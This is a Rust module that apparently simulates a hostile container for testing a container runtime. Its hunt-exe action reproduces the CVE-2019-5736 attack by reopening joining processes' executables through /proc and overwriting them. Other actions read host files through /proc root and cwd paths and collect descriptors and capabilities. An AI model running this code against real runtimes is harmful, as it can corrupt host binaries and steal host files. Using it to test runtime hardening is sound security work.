//! What a hostile container does to the runtime that comes in.

use crate::{Outcome, emit, number, ok, text};
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::fs::{self, File, OpenOptions};
use std::io::{Read, Write};
use std::os::fd::AsRawFd;
use std::time::{Duration, Instant};

/// Runs the action when it is one of this module.
pub fn run(name: &str, args: &[&str]) -> Option<Outcome> {
    Some(Ok(match name {
        "hunt-exe" => hunt_exe(args),
        "hunt-root" => hunt_root(args),
        "hunt-fds" => hunt_fds(args),
        "hunt-caps" => hunt_caps(args),
        _ => return None,
    }))
}

/// Calls `look` with every other process id for so many milliseconds.
fn watch(millis: i64, mut look: impl FnMut(&str)) -> u64 {
    emit(&json!({"ready": true}));
    let own = std::process::id().to_string();
    let begun = Instant::now();
    let mut rounds = 0;
    while begun.elapsed() < Duration::from_millis(millis.unsigned_abs()) {
        rounds += 1;
        for e in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let name = e.file_name().to_string_lossy().into_owned();
            if name != own && name != "1" && name.bytes().all(|b| b.is_ascii_digit()) {
                look(&name);
            }
        }
    }
    rounds
}

/// CVE-2019-5736: hunt-exe MILLISECONDS. Keeps every executable that a joining
/// process shows, and writes to it once it is no longer busy.
fn hunt_exe(args: &[&str]) -> Value {
    let mut kept: Vec<(String, File)> = Vec::new();
    let mut seen = BTreeSet::new();
    let mut written = Vec::new();
    let rounds = watch(number(args, 0), |pid| {
        let path = format!("/proc/{pid}/exe");
        if let Ok(target) = fs::read_link(&path) {
            let target = target.display().to_string();
            seen.insert(target.clone());
            if target != "/probe" && kept.len() < 200 {
                kept.extend(File::open(&path).ok().map(|f| (target, f)));
            }
        }
    });
    std::thread::sleep(Duration::from_millis(100));
    for (target, f) in &kept {
        let again = format!("/proc/self/fd/{}", f.as_raw_fd());
        let overwritten = OpenOptions::new().write(true).open(again).and_then(|mut w| w.write_all(b"PWND"));
        if overwritten.is_ok() {
            written.push(target.clone());
        }
    }
    ok("hunt-exe", args, json!({"rounds": rounds, "seen": seen, "kept": kept.len(), "written": written}))
}

/// hunt-root FILE MILLISECONDS: reads a file of the host through the root,
/// the working directory or a descriptor of a process that is joining.
fn hunt_root(args: &[&str]) -> Value {
    let file = text(args, 0);
    let mut stolen = BTreeSet::new();
    let rounds = watch(number(args, 1), |pid| {
        for way in [
            format!("/proc/{pid}/root{file}"),
            format!("/proc/{pid}/cwd{file}"),
            format!("/proc/{pid}/cwd/../../../../..{file}"),
        ] {
            let mut data = String::new();
            if File::open(&way).and_then(|mut f| f.read_to_string(&mut data)).is_ok() {
                stolen.insert(data);
            }
        }
    });
    ok("hunt-root", args, json!({"rounds": rounds, "stolen": stolen}))
}

/// hunt-fds MILLISECONDS: the targets of every descriptor that others show.
fn hunt_fds(args: &[&str]) -> Value {
    let mut seen = BTreeSet::new();
    let rounds = watch(number(args, 0), |pid| {
        for e in fs::read_dir(format!("/proc/{pid}/fd")).into_iter().flatten().flatten() {
            if let Ok(target) = fs::read_link(e.path()) {
                seen.insert(target.display().to_string());
            }
        }
    });
    ok("hunt-fds", args, json!({"rounds": rounds, "seen": seen}))
}

/// hunt-caps MILLISECONDS: every capability that another process was seen with.
fn hunt_caps(args: &[&str]) -> Value {
    let (mut caps, mut looks) = (0u64, 0u64);
    let rounds = watch(number(args, 0), |pid| {
        let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
        for line in status.lines() {
            if let Some(mask) = line.strip_prefix("CapPrm:").or_else(|| line.strip_prefix("CapEff:")) {
                looks += 1;
                caps |= u64::from_str_radix(mask.trim(), 16).unwrap_or(0);
            }
        }
    });
    ok("hunt-caps", args, json!({"rounds": rounds, "looks": looks, "caps": format!("{caps:#x}")}))
}
